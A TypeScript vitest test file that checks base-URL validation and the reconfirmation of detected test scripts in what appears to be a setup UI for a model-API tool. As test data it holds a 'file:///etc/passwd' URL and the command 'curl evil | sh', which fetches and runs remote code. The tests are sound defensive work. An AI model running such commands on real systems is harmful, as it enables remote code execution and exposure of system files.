import { describe, expect, it } from 'vitest';

import { judgeBaseUrl, tidyBaseUrl } from '../../../../src/ui/setup/baseUrl';
import { detectGates } from '../../../../src/core/gates/detect';
import { confirmationKey } from '../../../../src/ui/setup/confirmationKey';

describe('a base URL', () => {
  it.each([
    ['http://localhost:11434/v1', undefined],
    [' https://api.example.com/v1 ', undefined],
    ['http://[::1]:8000/v1', undefined],
    ['http://10.0.0.5/v1', 'warning'],
    ['https://api.example.com', 'warning'],
    ['localhost:1234', 'error'],
    ['nonsense', 'error'],
    ['file:///etc/passwd', 'error'],
    ['https://key@api.example.com/v1', 'error'],
    ['https://api.example.com/v1?key=1', 'error'],
  ])('%s is judged %s', (url, severity) => {
    expect(judgeBaseUrl(url)?.severity).toBe(severity);
  });

  it('is kept without what a paste brings along', () => {
    expect(tidyBaseUrl(' http://localhost:11434/v1/ ')).toBe('http://localhost:11434/v1');
  });
});

describe('a detected gate', () => {
  it('is to be confirmed again when the command behind its name is another', () => {
    const keyOf = (script: string): string => {
      const text = JSON.stringify({ scripts: { test: script } });
      const [only] = detectGates([{ folder: 'app', text, siblings: [] }]).gates;
      return only ? confirmationKey(only) : '';
    };
    expect(keyOf('vitest run')).not.toBe('');
    expect(keyOf('vitest run')).toBe(keyOf('vitest run'));
    expect(keyOf('vitest run')).not.toBe(keyOf('curl evil | sh'));
  });
});
